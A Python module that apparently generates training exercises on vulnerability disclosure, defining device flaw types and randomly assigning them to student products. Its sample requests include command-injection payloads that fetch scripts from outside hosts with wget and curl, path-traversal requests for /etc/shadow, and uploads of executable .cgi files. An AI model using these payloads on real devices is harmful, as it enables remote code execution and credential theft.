"""What is wrong with the product: kinds of flaws, and those that were drawn."""

import random
from collections.abc import Mapping
from dataclasses import dataclass, field

from advisories import cvss

from disclosure_kit import facts
from disclosure_kit.product import RELEASES, UNSUPPORTED, Maker

_PAGES = (
    "backup status export notify schedule pairing diag wizard gallery netcfg".split()
)
_FIELDS = "dest label target entry slot token lang tz host path".split()
_TOPICS = "relay valve sensor tariff scene lamp motor".split()


@dataclass(frozen=True)
class Kind:
    """A kind of flaw: its weakness, and how experts and users describe it.

    `{page}`, `{field}`, `{port}` and `{topic}` are where it is in a student's product.
    `choices` are the CVSS values that make sense.
    """

    cwe: str
    weakness: str
    title: str
    where: str
    expert: tuple[str, ...]
    choices: Mapping[str, str] = field(default_factory=dict)
    user: tuple[str, ...] = ()


_WEB = {"AV": "NA"}
WEB = (
    Kind(
        "CWE-78",
        "Improper Neutralization of Special Elements used in an OS Command"
        " ('OS Command Injection')",
        "command injection",
        "/cgi-bin/{page}.cgi, parameter {field}",
        (
            "What one sends as `{field}` to /cgi-bin/{page}.cgi ends up in a call of"
            " the"
            " shell. A semicolon and a command of one's own behind it, and the device"
            " runs it.",
            "/cgi-bin/{page}.cgi hands the parameter `{field}` to system() as it is."
            " With"
            " $(...) in it I could run `id`.",
        ),
        _WEB,
        (
            "POST /cgi-bin/{page}.cgi HTTP/1.1 ..."
            " {field}=x%3Bwget+198.51.100.23%2Fm.sh",
            "POST /cgi-bin/{page}.cgi HTTP/1.1 ..."
            " {field}=%24%28curl+203.0.113.77%2Fa%29",
        ),
    ),
    Kind(
        "CWE-22",
        "Improper Limitation of a Pathname to a Restricted Directory"
        " ('Path Traversal')",
        "path traversal",
        "/cgi-bin/{page}.cgi, parameter {field}",
        (
            "/cgi-bin/{page}.cgi opens whatever file `{field}` names. Enough ../ in"
            " front,"
            " and one leaves the folder that was meant.",
            "The parameter `{field}` of /cgi-bin/{page}.cgi is taken for a file name"
            " without a look at dots and slashes.",
        ),
        _WEB,
        (
            "GET /cgi-bin/{page}.cgi?{field}=..%2F..%2F..%2Fetc%2Fshadow HTTP/1.1",
            "GET /cgi-bin/{page}.cgi?{field}=%2e%2e%2f%2e%2e%2fetc%2fwpa.conf HTTP/1.1",
        ),
    ),
    Kind(
        "CWE-434",
        "Unrestricted Upload of File with Dangerous Type",
        "unrestricted upload",
        "/cgi-bin/{page}.cgi, parameter {field}",
        (
            "Through `{field}` of /cgi-bin/{page}.cgi one can upload any kind of file,"
            " also a script, which the web server then runs when it is asked for.",
            "/cgi-bin/{page}.cgi does not look at the type of what arrives as"
            " `{field}`."
            " My file with the ending .cgi could be called afterwards.",
        ),
        _WEB,
        (
            'POST /cgi-bin/{page}.cgi HTTP/1.1 ... name="{field}"; filename="up.cgi"',
            'POST /cgi-bin/{page}.cgi HTTP/1.1 ... name="{field}"; filename="x1.cgi"',
        ),
    ),
)
OTHER = (
    Kind(
        "CWE-798",
        "Use of Hard-coded Credentials",
        "hard-coded credentials",
        "the service on TCP port {port}",
        (
            "On TCP port {port} there is a service for maintenance whose password is in"
            " the firmware image, the same one in all devices.",
        ),
        {"AV": "NA", "PR": "N", "UI": "N"},
    ),
    Kind(
        "CWE-306",
        "Missing Authentication for Critical Function",
        "missing authentication",
        "the MQTT topic {topic}/set",
        (
            "Whoever can publish to the MQTT topic {topic}/set commands the device. It"
            " does not ask who that is.",
        ),
        {"AV": "NA", "PR": "N", "UI": "N"},
    ),
    Kind(
        "CWE-347",
        "Improper Verification of Cryptographic Signature",
        "unverified signature",
        "the updater's file {topic}.upd",
        (
            "The updater reads {topic}.upd and compares a checksum, but never the"
            " signature. A file that I had changed was installed.",
        ),
        {"AV": "NAP"},
    ),
)


@dataclass(frozen=True)
class Flaw:
    """A flaw of this student's product.

    `affected` are the releases that have it, `marks` the words by which a text about
    it can be told from any other.
    """

    kind: Kind
    places: Mapping[str, str]
    vector: cvss.Vector
    affected: tuple[str, ...]
    label: str
    cve: str
    marks: tuple[str, ...] = ()

    def say(self, text: str) -> str:
        """The text with this product's places."""
        return text.format_map(self.places)

    @property
    def where(self) -> str:
        """The place of the flaw."""
        return self.say(self.kind.where)

    @property
    def severity(self) -> str:
        """LOW to CRITICAL."""
        return cvss.severity(cvss.base_score(self.vector))


@dataclass(frozen=True)
class Flaws:
    """The three that are real.

    `exploited` is fixed in the newest release, `embargoed` in none, `minor` went away
    by itself some releases ago; it is on the same page as the first, and another one.
    """

    exploited: Flaw
    embargoed: Flaw
    minor: Flaw


def draw(source: random.Random, maker: Maker, year: int) -> Flaws:
    """Three flaws of this product."""
    exploited, minor = source.sample(WEB, 2)
    page = source.choice(_PAGES)
    one, other = source.sample(_FIELDS, 2)
    quiet = source.choice(OTHER)
    place = {"port": str(source.randint(20000, 60000)), "topic": _topic(source)}
    mark = place["port" if "{port}" in quiet.where else "topic"]
    names = _names(source, year)
    newest = RELEASES - 1
    oldest = UNSUPPORTED - 1
    return Flaws(
        exploited=Flaw(
            exploited,
            {"page": page, "field": one},
            # What was done to users altered their devices.
            facts.draw(source, {**exploited.choices, "I": "HL"}),
            maker.between(source.randint(oldest - 1, oldest + 1), newest),
            *names[0],
        ),
        embargoed=Flaw(
            quiet,
            place,
            facts.draw(source, quiet.choices),
            maker.between(source.randint(oldest + 2, newest - 2), RELEASES),
            *names[1],
            marks=(mark,),
        ),
        minor=Flaw(
            minor,
            {"page": page, "field": other},
            facts.draw(source, minor.choices),
            maker.between(
                source.randint(0, oldest - 1), source.randint(newest - 2, newest - 1)
            ),
            *names[2],
        ),
    )


def _names(source: random.Random, year: int) -> list[tuple[str, str]]:
    """Engineering's label and the CVE number of each of three flaws."""
    labels = source.sample(range(200, 999), 3)
    numbers = source.sample(range(10000, 68000), 3)
    pairs = zip(labels, numbers, strict=True)
    return [(f"ENG-{label}", f"CVE-{year}-{number}") for label, number in pairs]


def _topic(source: random.Random) -> str:
    return f"{source.choice(_TOPICS)}{source.randint(100, 999)}"
